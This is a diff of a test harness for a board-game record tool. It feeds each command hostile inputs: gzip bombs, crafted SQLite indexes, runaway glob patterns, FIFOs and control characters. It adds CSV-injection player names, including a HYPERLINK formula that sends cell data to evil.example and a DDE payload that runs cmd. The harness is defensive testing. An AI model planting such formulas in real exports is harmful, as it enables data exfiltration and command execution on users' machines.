@@ -25,6 +25,8 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 
+from web_visit import WEB
+
 MIB = 1024 * 1024
 
 SIZES = {
@@ -44,6 +46,7 @@ SIZES = {
     "json_depth": 100_000,  # nested arrays in JSON
     "colors_json_depth": 100_000,  # nested arrays in a JSON object given inline to --colors
     "large_zip_members": 24,  # members of 8 MB of comments each in a zip (190 MB unpacked)
+    "ring_players": 1_000,  # players of one event who each met two (a full crosstable: a million cells)
 }
 
 SECONDS = 10.0  # every command on every case ends within this
@@ -116,6 +119,8 @@ ARCHIVE_COMMANDS: dict[str, list[str]] = {
     ],
 }
 COMMANDS.update(ARCHIVE_COMMANDS)
+# hexhop serve on the input: every page and the editor (tests/web_visit.py)
+COMMANDS["web-pages"] = [WEB, "{in}", "{out}"]
 RECORD_COMMANDS = tuple(COMMANDS)
 # one command of each way the archive commands read: index writes what the
 # scan of find reads (find --position, dupes and stats --format json read as
@@ -134,13 +139,13 @@ ONE_PER_READER = (
 JSON_COMMANDS = {"convert-record": ["convert", "--to", "record", "{in}"]}
 GLOB = "[a-" * 20_000  # a pattern a backtracking matcher takes forever over
 GLOB_READ = "[a-" * 333  # as long a one as find and stats read (1,000 characters)
-# commands only the cases of issue 23 run, each on the inputs it is about;
+# commands that only some cases run, each on the inputs it is about;
 # {folder}: the case's folder; {rel}: the input as a path relative to the
 # command's working directory
 CASE_COMMANDS: dict[str, list[str]] = {
-    # item 5: one folder under three spellings
+    # one folder under three spellings
     "index-three-spellings": ["index", "{rel}", "./{rel}", "{in}", "--db", "{out}/x.sqlite"],
-    # item 9: an output that names an input, or the archive holding one
+    # an output that names an input, or the archive holding one
     "merge-over-input": ["merge", "{in}", "--out", "{in}", "--force"],
     "convert-over-input": ["convert", "--to", "json", "{in}", "--out", "{in}", "--force"],
     "find-export-over-input": ["find", "{in}", "--scan", "--export", "{in}", "--force"],
@@ -153,7 +158,7 @@ CASE_COMMANDS: dict[str, list[str]] = {
         *("analyse", "{in}:in.hpf", "--depth", "1", "--max-seconds", "0.5"),
         *("--annotate", "{in}", "--force"),
     ],
-    # item 9, in the output folder (see beside_the_outputs)
+    # the same, in the output folder (see beside_the_outputs)
     "split-beside-inputs": ["split", "{out}/in.trg", "{out}/in-1.trg", "--out-dir", "{out}"],
     "render-over-input": [
         *("render", "{out}/game001.html", "--format", "html"),
@@ -163,26 +168,26 @@ CASE_COMMANDS: dict[str, list[str]] = {
         *("puzzles", "{out}/puzzle001.hxl", "--depth", "1", "--max-seconds", "0.5"),
         *("--out-dir", "{out}", "--force"),
     ],
-    # items 12, 13: a crafted index
+    # a crafted index
     "find-db": ["find", "--player", "a", "--db", "{in}"],
     "find-db-export": ["find", "--player", "a", "--db", "{in}", "--export", "{out}/found.hxl"],
     "stats-db": ["stats", "--db", "{in}"],
     "dupes-db": ["dupes", "--db", "{in}"],
     "index-db": ["index", "{folder}/games", "--db", "{in}"],
-    # issue 27: serve refuses a crafted index as index and find do, before it listens
+    # serve refuses a crafted index as index and find do, before it listens
     "serve-db": ["serve", "{folder}/games", "--db", "{in}", "--port", "0", "-q"],
-    # item 16: a glob pattern
+    # a glob pattern
     "find-player-glob": ["find", "--player", GLOB, "{in}"],
     "find-tag-glob": ["find", "--tag", "Event=" + GLOB, "{in}"],
     "check-glob": ["check", "--glob", GLOB, "{in}"],
     "find-player-glob-read": ["find", "--player", GLOB_READ, "{in}"],
     "find-tag-glob-read": ["find", "--tag", "Event=" + GLOB_READ, "{in}"],
-    # item 17: a colours file that is a FIFO nobody writes to, or /dev/zero
+    # a colours file that is a FIFO nobody writes to, or /dev/zero
     "render-colors-fifo": [
         *("render", "{in}", "--colors", "{folder}/colors.fifo", "--out-dir", "{out}")
     ],
     "render-colors-zero": ["render", "{in}", "--colors", "/dev/zero", "--out-dir", "{out}"],
-    # issue 24: a JSON object given inline to --colors, nested deeper than Python's stack
+    # a JSON object given inline to --colors, nested deeper than Python's stack
     # (an argument holds at most 128 KiB), and one that names an unknown colour
     "render-colors-inline-deep": [
         *("render", "{in}", "--colors", '{"dark": ' + "[" * SIZES["colors_json_depth"]),
@@ -191,7 +196,7 @@ CASE_COMMANDS: dict[str, list[str]] = {
     "render-colors-inline-unknown": [
         *("render", "{in}", "--colors", '{"dark": "brownish"}', "--out-dir", "{out}"),
     ],
-    # issue 24 item 5: -j on every command that takes long (two processes)
+    # -j on every command that takes long (two processes)
     "check-jobs": ["check", "-j", "2", "--format", "json", "{in}"],
     "index-jobs": ["index", "-j", "2", "{in}", "--db", "{out}/x.sqlite"],
     "analyse-jobs": ["analyse", "-j", "2", "{in}", "--depth", "1", "--max-seconds", "0.5"],
@@ -201,7 +206,7 @@ CASE_COMMANDS: dict[str, list[str]] = {
     ],
     "render-jobs": ["render", "-j", "2", "{in}", "--format", "svg", "--plies", "0,last"]
     + ["--out", "{out}"],
-    # issue 26 §3: the analysis kept in the index, and what is read from it
+    # the analysis kept in the index, and what is read from it
     "index-analyse": [
         *("index", "{in}", "--db", "{out}/x.sqlite", "--analyse", "--depth", "1"),
         *("--max-seconds", "0.5"),
@@ -222,11 +227,11 @@ CASE_COMMANDS: dict[str, list[str]] = {
         *("puzzles", "--db", "{in}", "--depth", "1", "--max-seconds", "0.5", "-q"),
         *("--out-dir", "{out}/p"),
     ],
-    # item 18: every format of find
+    # every format of find
     "find-csv": ["find", "--player", "n", "--format", "csv", "{in}"],
     "find-json": ["find", "--player", "n", "--format", "json", "{in}"],
     "find-jsonl": ["find", "--player", "n", "--format", "jsonl", "{in}"],
-    # issue 24: the options of one vocabulary, and the old spellings kept for a release
+    # the options of one vocabulary, and the old spellings kept for a release
     "find-sorted": ["find", "--player", "n", "--sort", "date", "--reverse", "--limit", "3", "{in}"],
     "find-sorted-csv": ["find", "--sort", "player", "--format", "csv", "{in}"],
     "ls-json": ["ls", "--format", "json", "{in}"],
@@ -237,13 +242,13 @@ CASE_COMMANDS: dict[str, list[str]] = {
     "split-quiet": ["split", "-q", "{in}", "--out-dir", "{out}/q"],
     "render-old-out": ["render", "{in}", "--plies", "last", "--out", "{out}/r", "-q"],
     "stats-old-depth": ["stats", "--depth", "2", "--length", "..100", "{in}"],
-    # issue 25: the standings of a newsletter
+    # the standings of a newsletter
     "crosstable-csv": ["crosstable", "--format", "csv", "-q", "{in}"],
     "crosstable-json": ["crosstable", "--format", "json", "-q", "{in}"],
     "crosstable-html": ["crosstable", "--format", "html", "-q", "{in}"],
     "crosstable-pdf": ["crosstable", "--format", "pdf", "--out", "{out}/c.pdf", "{in}"],
     "ratings-json": ["ratings", "--format", "json", "-q", "{in}"],
-    # issue 25 §1: pages a printer accepts
+    # pages a printer accepts
     "render-pdf-letter": [
         *("render", "{in}", "--format", "pdf", "--page", "letter", "--plies", "0,last"),
         *("-q", "--out-dir", "{out}"),
@@ -264,13 +269,13 @@ CASE_COMMANDS: dict[str, list[str]] = {
         *("crosstable", "--format", "pdf", "--page", "letter", "--landscape"),
         *("--out", "{out}/c.pdf", "{in}"),
     ],
-    # issue 25 §2: the game article, as PDF and as HTML
+    # the game article, as PDF and as HTML
     "render-article": ["render", "{in}", "--format", "article", "-q", "--out-dir", "{out}"],
     "render-article-html": [
         *("render", "{in}", "--format", "article-html", "--plies", "0,last", "-q"),
         *("--columns", "2", "--page", "letter", "--landscape", "--out-dir", "{out}"),
     ],
-    # issue 25 §5: Trigeo in chess pieces, in pictures, the viewer, puzzles and show
+    # Trigeo in chess pieces, in pictures, the viewer, puzzles and show
     "render-pieces-chess": [
         *("render", "{in}", "--pieces", "chess", "--format", "svg", "--plies", "0,last"),
         *("--out-dir", "{out}"),
@@ -620,16 +625,14 @@ def lzma_dictionary() -> bytes:
 
 def gzip_bomb(size: int) -> bytes:
     """A record file compressed with gzip that unpacks to ``size`` zero
-    bytes (a multiple of 16 MiB): one member of 16 MiB repeated, 2 kB a GiB
-    (issue 23)."""
+    bytes (a multiple of 16 MiB): one member of 16 MiB repeated, 2 kB a GiB."""
     return gzip.compress(bytes(16 * MIB), 9) * (size // (16 * MIB))
 
 
 def unclosed_comments() -> bytes:
     """A comment never closed over many lines that look like tags after
     blank lines but are not whole tag lines, then games, every tenth with a
-    comment never closed (each ended where the next game's tags begin:
-    issue 23, item 1)."""
+    comment never closed (each ended where the next game's tags begin)."""
     lines = '\n[Event "x"] is not a tag line\n' * (SIZES["movetext"] // 32)
     damaged = GOOD_HEXALIT.replace("2. A5XB2^", "{ never closed\n\n2. A5XB2^")
     games = [damaged if i % 10 == 0 else GOOD_HEXALIT for i in range(100)]
@@ -768,13 +771,13 @@ def open_comment_members(folder: Path) -> str:
     return "open.zip"
 
 
-# ---------------------------------------------------------------- issue 23
+# ---------------------------------------------------------------- archives you can trust
 
 
 def open_comment_before_game_3() -> bytes:
     """Eight games, a comment never closed before the third: it ends where
-    the third game's tags begin, and every game is read (item 1;
-    ``test_every_game_after_an_open_comment_is_read`` counts them)."""
+    the third game's tags begin, and every game is read
+    (``test_every_game_after_an_open_comment_is_read`` counts them)."""
     games = [GOOD_HEXALIT.replace('"N"', f'"N{i}"') for i in range(1, 9)]
     games[2] = "{ a comment never closed\n\n" + games[2]
     return "\n".join(games).encode()
@@ -800,7 +803,7 @@ def utf16_members(folder: Path) -> str:
 
 def surrogate_in_a_name() -> bytes:
     """A lone surrogate in UTF-8 (not UTF-8) in a player's name, in a
-    Trigeo record whose captures are written with ° (item 8)."""
+    Trigeo record whose captures are written with °."""
     return TRIGEO.encode().replace(b"Ute Sommer", b"Ute \xed\xa0\x80 Sommer")
 
 
@@ -812,9 +815,23 @@ def empty_beside_good(folder: Path) -> str:
     return "d"
 
 
+# a record whose cube is a superscript two: "²".isdigit(), but int("²") raises
+SUPERSCRIPT_CUBE = '[Game "Hexalit"]\n[Position "N: B4=1; S: E4=1; cube: \u00b2"]\n\n*\n'
+
+
+def superscript_beside_good(folder: Path) -> str:
+    """A folder of the superscript record and a good one: every command
+    reads past the first and reports (or uses) the second."""
+    root = folder / "d"
+    root.mkdir()
+    (root / "sup.hxl").write_text(SUPERSCRIPT_CUBE, "utf-8")
+    shutil.copy(KASSEL, root / "hexalit-kassel-1998.hxl")
+    return "d"
+
+
 def three_spellings(folder: Path) -> str:
     """A folder ``sm`` of records and an archive, for ``sm``, ``./sm`` and
-    its absolute path in one run of index (item 5)."""
+    its absolute path in one run of index."""
     root = folder / "sm"
     (root / "sub").mkdir(parents=True)
     (root / "a.hxl").write_text(GOOD_HEXALIT, "utf-8")
@@ -826,7 +843,7 @@ def three_spellings(folder: Path) -> str:
 
 def input_in_an_archive(folder: Path) -> str:
     """``arc.zip`` holding ``in.hpf``: the command writes over the archive
-    that holds its input (item 9)."""
+    that holds its input."""
     with zipfile.ZipFile(folder / "arc.zip", "w") as archive:
         archive.write(BREMEN, "in.hpf")
         archive.write(BREMEN, "other.hpf")
@@ -836,7 +853,7 @@ def input_in_an_archive(folder: Path) -> str:
 def beside_the_outputs(folder: Path) -> str:
     """Inputs that ``prepare`` copies into the output folder, each under a
     name the command would choose for what it writes: ``split``'s
-    ``in-1.trg``, a record named ``game001.html``, ``puzzle001.hxl`` (item 9)."""
+    ``in-1.trg``, a record named ``game001.html``, ``puzzle001.hxl``."""
     # no players, no date: split names the games after their file, in-1.trg …
     two = ('[Game "Trigeo"]\n\n1. C7°D7 E6°D7 *\n\n[Game "Trigeo"]\n\n1. C7°D7 *\n').encode()
     (folder / "in.trg").write_bytes(two)
@@ -874,7 +891,7 @@ TAKEN = (
 
 def dangling_links(folder: Path, out: Path) -> None:
     """Symbolic links that lead nowhere, under the names a command writes
-    first (item 10): each must be there, unchanged, afterwards."""
+    first: each must be there, unchanged, afterwards."""
     for name in TAKEN:
         (out / name).parent.mkdir(exist_ok=True)
         os.symlink(folder / "gone", out / name)
@@ -882,7 +899,7 @@ def dangling_links(folder: Path, out: Path) -> None:
 
 def long_member_name(folder: Path) -> str:
     """A zip member named with 80 four-byte characters (320 bytes, more than
-    a file name holds), beside a short one (item 11)."""
+    a file name holds), beside a short one."""
     with zipfile.ZipFile(folder / "long.zip", "w") as archive:
         archive.write(KASSEL, "\U00020000" * 80 + ".hxl")
         archive.write(KASSEL, "b.hxl")
@@ -892,7 +909,7 @@ def long_member_name(folder: Path) -> str:
 def large_zip(folder: Path) -> str:
     """Members that are the same valid game of 8 MB of comments (each just
     under the limit of one comment), 190 MB unpacked from 200 kB: merge
-    --dedupe writes it once, and must not hold every member (item 14)."""
+    --dedupe writes it once, and must not hold every member."""
     comments = ("{" + "x" * 99_000 + "}\n") * 80
     game = GOOD_HEXALIT.replace("D7W1", "D7W1 " + comments)
     with zipfile.ZipFile(folder / "large.zip", "w", zipfile.ZIP_DEFLATED) as archive:
@@ -906,7 +923,7 @@ FOREVER = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"
 
 def crafted_index(*statements: str | Callable[[], str]) -> Callable[[Path], str]:
     """An index of ``games/`` made by hexhop, then changed by ``statements``
-    (items 12, 13; more of them in test_index_crafted.py)."""
+    (more of them in test_index_crafted.py)."""
 
     def build(folder: Path) -> str:
         from click.testing import CliRunner
@@ -932,7 +949,7 @@ def crafted_index(*statements: str | Callable[[], str]) -> Callable[[Path], str]
 
 def analysed_index(*statements: str) -> Callable[[Path], str]:
     """An index of ``games/`` analysed by hexhop (``index --analyse``), then
-    changed by ``statements`` (issue 26 §3)."""
+    changed by ``statements``."""
 
     def build(folder: Path) -> str:
         from click.testing import CliRunner
@@ -995,13 +1012,45 @@ def colors_fifo(folder: Path) -> str:
 
 def bidi_names() -> bytes:
     """Control characters and bidirectional overrides in names, an event and
-    a comment, twice (for dupes), and a Trigeo game beyond ASCII (item 18)."""
+    a comment, twice (for dupes), and a Trigeo game beyond ASCII."""
     game = (
         f'[Game "Hexalit"]\n[North "Nina {BIDI}"]\n[South "Nora{BIDI}x"]\n'
         f'[Event "{BIDI}"]\n[Result "*"]\n\n1. B4W3 {{{BIDI}}} D7W1 *\n'
     )
     trigeo = TRIGEO.replace("Karl", f"Karl{BIDI}").replace("Ute", "Jürgen")
     return "\n".join((game, game, trigeo)).encode()
+
+
+#: Names a spreadsheet would run as formulas (OWASP's examples), as
+#: players, an event and a site
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+)
+
+
+def formula_names() -> bytes:
+    """Two games between players named as formulas, in an event so named."""
+    tag = [name.replace('"', '\\"') for name in FORMULAS]
+    return "".join(
+        f'[Game "Hexalit"]\n[Event "{tag[0]}"]\n[Site "{tag[3]}"]\n'
+        f'[North "{tag[i]}"]\n[South "{tag[i + 1]}"]\n[Result "1-0"]\n\n1. B4W3 1-0\n\n'
+        for i in (0, 2)
+    ).encode()
+
+
+def ring() -> bytes:
+    """An event of ``ring_players`` players in a ring, each playing the next
+    (P0-P1, P1-P2, ...): a crosstable with a row and a column each grows
+    with the square of the players, the games only with the players."""
+    players = SIZES["ring_players"]
+    return "".join(
+        f'[Game "Hexalit"]\n[Event "Big"]\n[North "P{i}"]\n[South "P{(i + 1) % players}"]\n'
+        '[Result "1-0"]\n\n1-0\n\n'
+        for i in range(players)
+    ).encode()
 
 
 def hostile_article() -> bytes:
@@ -1036,84 +1085,159 @@ def compressed_tar(mode: str, name: str) -> Callable[[Path], str]:
 # ---------------------------------------------------------------- all cases
 
 CASES: list[Case] = [
-    Case("blank-run", _file("a.hxl", blank_run), notes="item 1"),
-    Case("blank-lines", _file("a.hxl", blank_lines), notes="item 1"),
-    Case("comment-run", _file("a.hxl", comment_run), notes="item 1"),
+    Case("blank-run", _file("a.hxl", blank_run), notes="blanks and comments read in linear time"),
+    Case(
+        "blank-lines", _file("a.hxl", blank_lines), notes="blanks and comments read in linear time"
+    ),
+    Case(
+        "comment-run", _file("a.hxl", comment_run), notes="blanks and comments read in linear time"
+    ),
     Case(
         "blank-run-stdin",
         _stdin("a.hxl", blank_run),
         ("check-text", "fmt", "convert-json", "show", *ARCHIVE_COMMANDS),
         stdin="a.hxl",
-        notes="item 1",
+        notes="blanks and comments read in linear time",
     ),
-    Case("huge-tag-value", _file("a.hxl", huge_tag_value), notes="item 3"),
-    Case("huge-movetext", _file("a.hxl", huge_movetext), ONE_PER_READER, notes="item 3"),
-    Case("huge-path", _file("a.hpf", huge_path), notes="item 3"),
-    Case("many-siblings", _file("a.hxl", many_siblings), ONE_PER_READER, notes="item 4"),
-    Case("findings-line", _file("a.hxl", findings_line), ONE_PER_READER, notes="item 5"),
-    Case("huge-player-name", _file("a.hxl", huge_player_name), notes="item 6"),
-    Case("newlines", _file("a.hxl", newlines), ONE_PER_READER, notes="item 7"),
-    Case("newline-zip", newline_zip, ONE_PER_READER, notes="item 7"),
-    Case("newline-tar", newline_tar, ONE_PER_READER, notes="item 7"),
-    Case("long-move-number", _file("a.hxl", long_move_number), ONE_PER_READER, notes="item 11"),
-    Case("long-cube-value", _file("a.hxl", long_cube_value), ONE_PER_READER, notes="item 11"),
-    Case("long-numbers-in-tags", _file("a.hpf", long_numbers_in_tags), notes="item 11"),
+    Case("huge-tag-value", _file("a.hxl", huge_tag_value), notes="limits applied while reading"),
+    Case(
+        "huge-movetext",
+        _file("a.hxl", huge_movetext),
+        ONE_PER_READER,
+        notes="limits applied while reading",
+    ),
+    Case("huge-path", _file("a.hpf", huge_path), notes="limits applied while reading"),
+    Case(
+        "many-siblings",
+        _file("a.hxl", many_siblings),
+        ONE_PER_READER,
+        notes="many variations within the limits",
+    ),
+    Case(
+        "findings-line",
+        _file("a.hxl", findings_line),
+        ONE_PER_READER,
+        notes="a finding shows a window of its line",
+    ),
+    Case(
+        "huge-player-name",
+        _file("a.hxl", huge_player_name),
+        notes="a huge name costs no more than the limit",
+    ),
+    Case("newlines", _file("a.hxl", newlines), ONE_PER_READER, notes="blank lines stay cheap"),
+    Case("newline-zip", newline_zip, ONE_PER_READER, notes="blank lines stay cheap"),
+    Case("newline-tar", newline_tar, ONE_PER_READER, notes="blank lines stay cheap"),
+    Case(
+        "long-move-number",
+        _file("a.hxl", long_move_number),
+        ONE_PER_READER,
+        notes="long numbers are no internal error",
+    ),
+    Case(
+        "long-cube-value",
+        _file("a.hxl", long_cube_value),
+        ONE_PER_READER,
+        notes="long numbers are no internal error",
+    ),
+    Case(
+        "long-numbers-in-tags",
+        _file("a.hpf", long_numbers_in_tags),
+        notes="long numbers are no internal error",
+    ),
     Case(
         "control-characters",
         _file("a.hxl", control_characters),
         ONE_PER_READER,
-        notes="items 15, 16",
+        notes="control characters shown escaped",
     ),
     Case(
         "control-characters-text",
         _file("a.hxl", control_characters_text),
         ONE_PER_READER,
-        notes="items 15, 16: names, events and comments on the terminal",
+        notes="control characters shown escaped: names, events and comments on the terminal",
     ),
-    Case("not-utf8", _file("a.hxl", not_utf8), ONE_PER_READER, notes="item 15"),
-    Case("fifo-in-folder", fifo_in_folder, notes="item 2"),
-    Case("fifo-named-zip", fifo_named_zip, notes="item 2"),
-    Case("fifo-record", fifo_record, notes="item 2"),
-    Case("device-in-folder", device_in_folder, needs_root=True, notes="item 2"),
-    Case("dev-zero", dev_zero, notes="item 2"),
+    Case(
+        "not-utf8",
+        _file("a.hxl", not_utf8),
+        ONE_PER_READER,
+        notes="bytes that are not UTF-8, shown escaped",
+    ),
+    Case("fifo-in-folder", fifo_in_folder, notes="nothing blocks on FIFOs and devices"),
+    Case("fifo-named-zip", fifo_named_zip, notes="nothing blocks on FIFOs and devices"),
+    Case("fifo-record", fifo_record, notes="nothing blocks on FIFOs and devices"),
+    Case(
+        "device-in-folder",
+        device_in_folder,
+        needs_root=True,
+        notes="nothing blocks on FIFOs and devices",
+    ),
+    Case("dev-zero", dev_zero, notes="nothing blocks on FIFOs and devices"),
     Case(
         "dev-zero-stdin",
         stdin_marker,
         ("check-text", "fmt", "convert-json", "show", "moves", *ARCHIVE_COMMANDS),
         stdin="/dev/zero",
-        notes="item 2",
+        notes="nothing blocks on FIFOs and devices",
     ),
-    Case("odd-file-names", odd_names, notes="items 10, 15"),
-    Case("odd-member-names", odd_member_names, notes="items 10, 15"),
-    Case("corrupt-zip", corrupt_zip, notes="item 8"),
-    Case("corrupt-tars", corrupt_tars, notes="item 8"),
-    Case("mutated-archives", mutated_archives, notes="item 8"),
-    Case("lzma-dictionary", _file("a.tar", lzma_dictionary), notes="item 8 (fuzzer)"),
-    Case("pax-header", big_tar_header(b"x"), ONE_PER_READER, notes="item 3"),
-    Case("gnu-long-name", big_tar_header(b"L"), ONE_PER_READER, notes="item 3"),
+    Case(
+        "odd-file-names",
+        odd_names,
+        notes="names that are not UTF-8 or hold control characters, shown escaped",
+    ),
+    Case(
+        "odd-member-names",
+        odd_member_names,
+        notes="names that are not UTF-8 or hold control characters, shown escaped",
+    ),
+    Case("corrupt-zip", corrupt_zip, notes="a damaged member is one error"),
+    Case("corrupt-tars", corrupt_tars, notes="a damaged member is one error"),
+    Case("mutated-archives", mutated_archives, notes="a damaged member is one error"),
+    Case(
+        "lzma-dictionary",
+        _file("a.tar", lzma_dictionary),
+        notes="a damaged member is one error (found by the fuzzer)",
+    ),
+    Case("pax-header", big_tar_header(b"x"), ONE_PER_READER, notes="limits applied while reading"),
+    Case(
+        "gnu-long-name", big_tar_header(b"L"), ONE_PER_READER, notes="limits applied while reading"
+    ),
     Case("gzip-bomb", _file("a.hxl.gz", lambda: gzip_bomb(2048 * MIB)), ONE_PER_READER),
     Case("unclosed-comments", _file("a.hxl", unclosed_comments), ONE_PER_READER),
     Case(
         "open-comment-before-a-member",
         open_comment_members,
         ("split", "merge", "dupes", "find-position"),
-        notes="issue 23, item 2: written games read back as written, or nothing written",
+        notes="written games read back as written, or nothing written",
     ),
     Case(
         "open-comment-before-game-3",
         _file("eight.hxl", open_comment_before_game_3),
-        notes="issue 23 item 1",
+        notes="a comment never closed ends where the next game begins",
     ),
-    Case("utf16-bom", _file("a.trg", utf16), notes="issue 23 item 3"),
-    Case("utf16-members", utf16_members, tuple(ARCHIVE_COMMANDS), notes="issue 23 item 3"),
+    Case("utf16-bom", _file("a.trg", utf16), notes="UTF-16 read as check reads it"),
+    Case(
+        "utf16-members",
+        utf16_members,
+        tuple(ARCHIVE_COMMANDS),
+        notes="UTF-16 read as check reads it",
+    ),
     Case(
         "index-three-spellings",
         three_spellings,
         ("index-three-spellings",),
-        notes="issue 23 item 5",
+        notes="one file is one row of the index, whatever path reaches it",
     ),
-    Case("surrogate-in-a-name", _file("a.trg", surrogate_in_a_name), notes="issue 23 item 8"),
-    Case("empty-beside-good", empty_beside_good, notes="issue 23 item 8"),
+    Case(
+        "surrogate-in-a-name",
+        _file("a.trg", surrogate_in_a_name),
+        notes="one bad byte or empty file changes no other verdict",
+    ),
+    Case(
+        "empty-beside-good",
+        empty_beside_good,
+        notes="one bad byte or empty file changes no other verdict",
+    ),
+    Case("superscript-beside-good", superscript_beside_good, notes="numbers: ASCII digits only"),
     Case(
         "output-is-the-input",
         _copy(BREMEN, "in.hpf"),
@@ -1124,7 +1248,7 @@ CASES: list[Case] = [
             "dupes-export-over-input",
             "analyse-annotate-input",
         ),
-        notes="issue 23 item 9",
+        notes="no command writes over its input",
     ),
     Case(
         "output-is-the-archive",
@@ -1135,27 +1259,27 @@ CASES: list[Case] = [
             "find-export-over-input",
             "dupes-export-over-input",
         ),
-        notes="issue 23 item 9",
+        notes="no command writes over its input",
     ),
     Case(
         "inputs-in-the-output-folder",
         beside_the_outputs,
         ("split-beside-inputs", "render-over-input", "puzzles-over-input"),
         prepare=_copy_into_output("in.trg", "in-1.trg", "game001.html", "puzzle001.hxl"),
-        notes="issue 23 item 9",
+        notes="no command writes over its input",
     ),
     Case(
         "dangling-links-in-the-output-folder",
         _copy(KASSEL, "kassel.hxl"),
         ("split", "render-svg", "render-html", "puzzles"),
         prepare=dangling_links,
-        notes="issue 23 item 10",
+        notes="a dangling link is a taken name",
     ),
     Case(
         "long-member-name",
         long_member_name,
         ("render-html", "render-svg", "split"),
-        notes="issue 23 item 11",
+        notes="a name is at most 255 bytes",
     ),
     *(
         Case(
@@ -1166,7 +1290,7 @@ CASES: list[Case] = [
             # indexes it refuses whole, which stay as they were
             ("find-db", "find-db-export", "stats-db", "dupes-db")
             + (("index-db", "serve-db") if name != "numbers-that-are-text" else ()),
-            notes="issue 23 items 12, 13",
+            notes="a crafted index is refused",
         )
         for name, statements in {
             "view-never-ends": (
@@ -1206,7 +1330,7 @@ CASES: list[Case] = [
             f"stored-analysis{name}",
             analysed_index(*statements),
             STORED_ANALYSIS_COMMANDS,
-            notes="issue 26 §3",
+            notes="the analysis kept in the index",
         )
         for name, statements in {
             "": (),
@@ -1220,6 +1344,11 @@ CASES: list[Case] = [
                 "UPDATE solved SET status = 'win', depth = -1",
             ),
             "-foreign-table": ("CREATE TABLE analyses_extra (x)",),
+            # "12²".isdigit(), but int("12²") raises; int("٣") is 3
+            "-digits-not-ascii": (
+                "UPDATE solved SET ply = ply || '²' WHERE ply % 2 = 0",
+                "UPDATE solved SET ply = '٣' || ply WHERE ply % 2 = 1",
+            ),
             "-view-of-notes": (
                 "CREATE TABLE kept AS SELECT * FROM notes",
                 "DROP TABLE notes",
@@ -1227,7 +1356,7 @@ CASES: list[Case] = [
             ),
         }.items()
     ),
-    Case("large-zip", large_zip, ("merge", "dupes"), notes="issue 23 item 14"),
+    Case("large-zip", large_zip, ("merge", "dupes"), notes="flat memory in the writers"),
     Case(
         "long-glob",
         globs_folder,
@@ -1235,19 +1364,19 @@ CASES: list[Case] = [
             *("find-player-glob", "find-tag-glob", "check-glob"),
             *("find-player-glob-read", "find-tag-glob-read"),
         ),
-        notes="issue 23 item 16",
+        notes="glob patterns in linear time",
     ),
     Case(
         "colors-fifo-and-zero",
         colors_fifo,
         ("render-colors-fifo", "render-colors-zero"),
-        notes="issue 23 item 17",
+        notes="no wait on a colours file that never ends",
     ),
     Case(
         "colors-inline",
         _file("a.hxl", lambda: GOOD_HEXALIT.encode()),
         ("render-colors-inline-deep", "render-colors-inline-unknown"),
-        notes="issue 24",
+        notes="inline colours, too deep or unknown",
     ),
     Case(
         "bidi-in-names",
@@ -1256,14 +1385,14 @@ CASES: list[Case] = [
             *("check-text", "check-json", "show", "moves", "find", "find-csv"),
             *("find-json", "find-jsonl", "stats", "stats-json", "dupes"),
         ),
-        notes="issue 23 item 18",
+        notes="control characters escaped in every output format",
     ),
     Case(
         "ascii-output",
         _file("a.hxl", bidi_names),
         ("check-text", "check-json", "find", "find-json", "show", "stats", "stats-json"),
         env=(("PYTHONIOENCODING", "ascii"),),
-        notes="issue 23 item 19",
+        notes="any output encoding, no traceback",
     ),
     Case(
         "one-vocabulary",
@@ -1273,7 +1402,7 @@ CASES: list[Case] = [
             *("moves-json-old", "split-quiet", "render-old-out", "stats-old-depth"),
             "show-listing",
         ),
-        notes="issue 24; show-listing: issue 25 §6",
+        notes="one vocabulary of options; show-listing: the rules' own position listing",
     ),
     *(
         Case(
@@ -1281,7 +1410,7 @@ CASES: list[Case] = [
             _file("a.hxl", build),
             ("crosstable-csv", "crosstable-json", "crosstable-html", "crosstable-pdf")
             + ("ratings-json",),
-            notes="issue 25",
+            notes="the standings of a newsletter",
         )
         for name, build in {"bidi-names": bidi_names, "not-utf8": not_utf8}.items()
     ),
@@ -1293,7 +1422,7 @@ CASES: list[Case] = [
                 *("render-pdf-letter", "render-sheet-a5-landscape", "render-sheet-pdf-a4"),
                 *("render-page-unknown", "puzzles-pdf", "crosstable-pdf-letter-landscape"),
             ),
-            notes="issue 25 §1",
+            notes="pages a printer accepts",
         )
         for name, build in {
             "bidi-names": _file("a.hxl", bidi_names),
@@ -1305,7 +1434,7 @@ CASES: list[Case] = [
             f"article-{name}",
             _file("a.hxl", build),
             ("render-article", "render-article-html"),
-            notes="issue 25 §2",
+            notes="the game article",
         )
         for name, build in {
             "hostile-text": hostile_article,
@@ -1319,7 +1448,7 @@ CASES: list[Case] = [
         "one-vocabulary-not-utf8",
         _file("a.hxl", not_utf8),
         ("find-sorted", "find-sorted-csv", "ls-json", "show-position", "split-quiet"),
-        notes="issue 24",
+        notes="one vocabulary of options",
     ),
     *(
         Case(
@@ -1329,7 +1458,7 @@ CASES: list[Case] = [
                 *("render-pieces-chess", "render-pieces-html", "render-pieces-colors"),
                 *("render-pieces-colors-bad", "puzzles-pieces-chess", "show-pieces-chess"),
             ),
-            notes="issue 25 §5",
+            notes="Trigeo with chess pieces",
         )
         for name, file_name, build in (
             ("trigeo-controls", "a.trg", trigeo_controls),
@@ -1337,9 +1466,25 @@ CASES: list[Case] = [
             ("not-utf8", "a.hxl", not_utf8),
         )
     ),
-    Case("gzip-record", _file("a.hxl.gz", gzip_record), notes="issue 23: compressed inputs"),
+    Case(
+        "formula-names",
+        _file("a.hxl", formula_names),
+        ("find-csv", "find-sorted-csv", "crosstable-csv", "crosstable", "find", "crosstable-json"),
+        notes="a CSV cell that starts as a formula starts with ' instead",
+    ),
+    Case(
+        "crosstable-ring",
+        _file("ring.hxl", ring),
+        # render-png draws a picture of each of the 1,000 games (17 ms each):
+        # its time is that of the games, not of the crosstable
+        tuple(name for name in RECORD_COMMANDS if name != "render-png")
+        + ("crosstable-csv", "crosstable-json", "crosstable-html", "crosstable-pdf")
+        + ("crosstable-pdf-letter-landscape", "ratings-json"),
+        notes="the crosstable's size bound: a listing beyond MAX_TABLE_PLAYERS",
+    ),
+    Case("gzip-record", _file("a.hxl.gz", gzip_record), notes="compressed inputs"),
     *(
-        Case(f"jobs-{name}", build, JOBS_COMMANDS, notes="issue 24 item 5: -j 2")
